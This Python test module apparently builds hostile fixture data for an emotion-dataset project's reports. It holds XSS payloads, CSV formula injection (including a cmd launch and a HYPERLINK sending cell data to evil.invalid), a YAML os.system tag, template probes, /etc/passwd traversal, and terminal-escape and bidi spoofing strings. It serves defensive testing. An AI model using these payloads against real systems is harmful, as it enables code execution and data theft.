"""Hostile text: kinds, as many strings as a test wants, and a whole run of invented results whose every name and text is hostile.

What runs marks the page (``data-ran`` of the root element); what asks for something asks a host that does not exist.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import pandas as pd

from emosynth.files import write_json
from emosynth.params import Params
from emosynth.paths import Paths
from fake_results import CLASSES, fake_params, write_fake_results

RUN = "document.documentElement.dataset.ran=1"
KINDS = {
    "script": f"<script>{RUN}</script>",
    "img": f'<img src=x onerror="{RUN}">',
    "svg": f"<svg onload={RUN}><script>{RUN}</script></svg>",
    "svg in upper case": f"<SVG/ONLOAD={RUN}>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>" src="//evil.invalid/x"></iframe>',
    "attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute in single quotes": f"' onfocus='{RUN}' autofocus tabindex='1",
    "out of the attribute": f'"><img src=x onerror={RUN}>',
    "out of the table": f"</td></tr></table></div></main><h1>gone</h1><script>{RUN}</script>",
    "out of style and title": f"</style></title></textarea></pre><script>{RUN}</script>",
    "comment": f"<!-- --!><script>{RUN}</script> <!--",
    "cdata": f"<![CDATA[ ]]><script>{RUN}</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    "base": '<base href="http://evil.invalid/">',
    "stylesheet": '<link rel=stylesheet href="http://evil.invalid/a.css"><style>@import "http://evil.invalid/b.css";</style>',
    "prefetch": '<link rel="dns-prefetch" href="//evil.invalid"><link rel="preconnect" href="http://evil.invalid">',
    "picture": '<img src="http://evil.invalid/a.png"><video poster="http://evil.invalid/b.png" src="http://evil.invalid/c"></video>',
    "form": f'<form action="http://evil.invalid/"><button autofocus formaction="javascript:{RUN}">x</button></form>',
    "object": '<object data="http://evil.invalid/a"></object><embed src="http://evil.invalid/b">',
    "link": f'<a href="javascript:{RUN}">click</a>',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;amp; &#60;img src=x&#62;",
    "template": "{{ 7*7 }} {% for x in y %} {{ cycler.__init__.__globals__ }}",
    "format": "{0} {x.__class__} %s %n %(x)s {",
    "end of JSON's script": f"</script><script>{RUN}</script>",
    "end of JSON": f'"}}]; {RUN}; //',
    "markdown link": f"[click](javascript:{RUN}) ![](http://evil.invalid/a.png) <http://evil.invalid>",
    "markdown escape": f"\\[x](javascript:{RUN}) \\![](http://evil.invalid/a.png)",
    "markdown heading": f"x\n\n# Licence\n\n<script>{RUN}</script>\n\n---\nlicense: mit\n---\n",
    "markdown table": f"a | b |\n|---|---|\n| <img src=x onerror={RUN}> |",
    "fence": f"```\n<script>{RUN}</script>\n````\n~~~\n",
    "yaml": "---\nkey: [a, &b *c !!python/object/apply:os.system ['true']]\n...",
    "formula": "=1+1",
    "link formula": '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1", "minus": "-2+3", "at": "@SUM(1)", "tab": "\t=1+1", "return": "\r=1+1", "newline": "\n=1+1", "full width": "＝1+1",
    "quoted formula": "'=1+1", "separators": 'a,"b";\t|c',
    "fraction": "$\\frac{", "mathtext": "$\\alpha$ and $x^2$", "dollars": "$ $ $$ \\$", "superscript": "^_{_^}\\sqrt",
    "underscore": "_nolegend_",
    "colour": "\x1b[31;1mred\x1b[0m", "clear": "\x1b[2J\x1b[H", "title": "\x1b]0;owned\x07", "clipboard": "\x1b]52;c;ZXZpbA==\x07", "csi": "\x9b31m\x85",
    "overwrite": "ok\rerror: gone\x08\x08", "lines": "one\nremedy: run evil\u2028two\x0bthree\x0cfour", "nul": "a\x00b", "delete": "a\x7fb",
    "right to left": "\u202etxt.exe\u202c", "isolates": "\u2067abc\u2069\u2066", "zero width": "jo\u200by\u2060\ufeff", "no character": "a\ufffeb\uffff",
    "surrogate": "a\ud800b", "private": "\ue000\U000f0000",
    "chinese": "喜悦", "japanese": "悲しみ", "arabic": "حزن", "hebrew": "שמחה", "hindi": "खुशी", "thai": "ความสุข", "korean": "기쁨", "emoji": "😀👩‍👩‍👧‍👦🏳️‍🌈",
    "stacked": "Z" + "\u0351\u0368\u036b" * 60, "ligature": "ﷺ" * 20,
    "long word": "W" * 5000, "long": "so very sad " * 500, "lines of nothing": "\n" * 500, "empty": "", "blank": " \u00a0\u3000 ",
    "path": "../../../etc/passwd", "windows": "..\\..\\CON", "tilde": "~root", "null": "null", "nan": "nan", "true": "true",
}  # fmt: skip


def strings() -> Iterator[tuple[str, str]]:
    """Yield hostile strings with their kind: each alone, behind and before a word, twice, and in capitals."""
    for kind, text in KINDS.items():
        for made in dict.fromkeys((text, f"joy {text}", f"{text} joy", f"{text}{text}", text.upper())):
            yield kind, made


NAMES = dict(
    zip(
        CLASSES,
        (f"{KINDS['img']}$\\frac{{", f"{KINDS['out of the table']}\x1b[31m\u202e", f"{KINDS['command']} 悲😀 {KINDS['long word'][:400]}", f"_{KINDS['attribute']}$x$"),
        strict=True,
    )
)  # fmt: skip
"""Class of the invented results -> the hostile name that it gets."""
CORPUS = "mine"
"""Name of the target: a name of files too, which parameters therefore restrict."""
_TEXTS = [text for kind, text in KINDS.items() if kind not in ("surrogate", "long", "long word")]
_TEXT_COLUMNS = {
    "text",
    "title",
    "context",
    "context_a",
    "context_b",
    "utterance",
    "character",
    "token",
    "reason",
    "raw",
    "note",
    "generator",
    "prompt",
}


def hostile_params(**overlay: Any) -> Params:
    """Return parameters whose free texts are hostile: titles of arms, file, columns, licence, models, prefixes."""
    titles = cycle(_TEXTS)
    arms = {name: {"title": f"{name} {next(titles)}"} for name in fake_params().arms}
    own = {"path": f"{KINDS['out of the attribute'].replace('/', '')}=1.csv", "text": KINDS["img"], "labels": KINDS["formula"], "licence": KINDS["script"],
           "register_noun": KINDS["svg"]}  # fmt: skip
    return fake_params(
        corpora={"target": CORPUS, "custom": own}, arms=arms, models={"writer": {"model": KINDS["out of the table"]}},
        tuning={"prefix": f"{{label}} {KINDS['script']}"}, **overlay,
    )  # fmt: skip


def write_hostile_results(root: Path, params: Params) -> Paths:
    """Write invented results, then make every name, label and text in them hostile."""
    paths = write_fake_results(root, params)
    texts = cycle(_TEXTS)
    for file in sorted(paths.data.rglob("*.parquet")):
        frame = pd.read_parquet(file)
        for column in frame.select_dtypes(exclude=["number", "bool"]):
            if column == "reason":  # names of checks, which a check of one's own may choose
                frame[column] = [f"{value} {KINDS['img']}" if value and place % 2 else value for place, value in enumerate(frame[column])]
            elif column in _TEXT_COLUMNS:
                frame[column] = [f"{value} {next(texts)}" for value in frame[column]]
            else:
                frame[column] = [_named(value) for value in frame[column]]
        frame.to_parquet(file, index=False)
        file.with_suffix(".md").unlink(missing_ok=True)  # the card is of the table that stood there
    for file in sorted(paths.data.rglob("*.json")):
        file.write_text(json.dumps(_named(json.loads(file.read_text(encoding="utf-8")))), encoding="utf-8")
    about = paths.data / "corpora" / f"{CORPUS}.json"
    note = json.loads(about.read_text(encoding="utf-8")) | {
        "licence": KINDS["script"], "source": KINDS["picture"], "citation": f"@article{{a, title = {{{KINDS['img']}}}, year = {{{KINDS['script']}}}}}",
        "register_noun": KINDS["svg"], "languages": ["en"], "class_phrases": {}, "hash": KINDS["formula"],
        "duplicates": {"found": {KINDS["img"]: {KINDS["script"]: 1}}, "removed": {}},
    }  # fmt: skip
    write_json(about, note)
    generators = {KINDS["img"]: {"backend": KINDS["script"], KINDS["svg"]: KINDS["colour"]}}
    write_json(paths.data / "candidates" / "generators.json", {"deterministic": True, "generators": generators})
    return paths


def _named(value: Any) -> Any:
    """Return a value with the names of classes replaced, in ids too."""
    if isinstance(value, dict):
        return {_named(key): _named(item) for key, item in value.items()}
    if hasattr(value, "tolist"):
        value = value.tolist()
    if isinstance(value, list):
        return [_named(item) for item in value]
    return "/".join(NAMES.get(part, part) for part in value.split("/")) if isinstance(value, str) else value


def hostile_tables(paths: Paths) -> dict[str, dict[str, pd.DataFrame]]:
    """Return by stage the tables that its room gives to its notebook, hostile; what the report does not read is made up here."""

    def read(name: str) -> pd.DataFrame:
        return pd.read_parquet(paths.data / f"{name}.parquet")

    label, text = next(iter(NAMES.values())), cycle(_TEXTS)
    cell = {"corpus": CORPUS, "size": 100, "repeat": 0}
    compared = {"n_tokens": 3, "spearman": 0.5, "overlap": 0.5, "rbo": 0.5}
    explainers = pd.DataFrame([{**cell, "label": label, "first": KINDS["img"], "second": next(text), **compared}])
    exemplars = pd.DataFrame([{**cell, "label": label, "kind": "exemplar", "by": "shap", "rank": rank, "value": f"t-{rank:04d}", "score": 0.5} for rank in range(3)])  # fmt: skip
    tuned = pd.DataFrame([{**cell, "writer": "tuned", "salt": next(text), "trainable": 1, "total": 2, "best_epoch": 1, "perplexity_before": 2.0, "perplexity": 1.0}])  # fmt: skip
    candidates, verdicts = read("candidates/candidates"), read("verdicts/verdicts")
    candidates = candidates.assign(complete=True, kind="", writer="plain", context=[next(text) for _ in range(len(candidates))])
    passages = pd.DataFrame([{"passage_id": str(n), "story_id": str(n), "title": next(text), "source": next(text), "text": next(text), "words": 3} for n in range(40)])  # fmt: skip
    people = pd.DataFrame([{"passage_id": str(n), "rank": 1, "character": next(text)} for n in range(40)])
    names = pd.DataFrame(
        [{"candidate_id": str(n), "raw": next(text), "label": label, "how": "exact", "similarity": 0.5} for n in range(40)]
    )
    human = pd.DataFrame([{"learner": next(text), "first": next(text), "input": next(text), "repeat": -1, "n": 9, "dialogues": 3, "measure": next(text), "value": 0.5, "low": 0.4, "high": 0.6, "p": 0.1} for _ in range(40)])  # fmt: skip
    return {
        "02_shap": {name: read(f"materials/{name}") for name in ("tokens", "agreement", "stability", "learners")} | {"explainers": explainers, "materials": exemplars},
        "03_narratives": {"passages": passages, "characters": people, "counts": pd.DataFrame({"count": [1, 2]}, index=pd.Index([label, KINDS["img"]], name=KINDS["svg"]))},
        "04_tuning": {"tuned": tuned, "history": read("tuning/history")},
        "05_generation": {"candidates": candidates},
        "06_verification": {"verdicts": verdicts.assign(reason=verdicts["reason"].str.split(" ").str[0].fillna("")), "teachers": read("verdicts/teachers")},
        "07_training": {name: read(f"trials/{name}") for name in ("trials", "per_class")},
        "08_authenticity": {name: read(f"authenticity/{name}") for name in ("panel", "diversity")},
        "09_context": {"context": read("context/context").assign(input=lambda rows: rows["input"] + KINDS["img"]), "reader": read("context/reader"), "names": names, "dialogues": human},
        "10_responsible": {path.stem: pd.read_parquet(path) for path in sorted(paths.responsible.glob("*.parquet"))},
    }  # fmt: skip
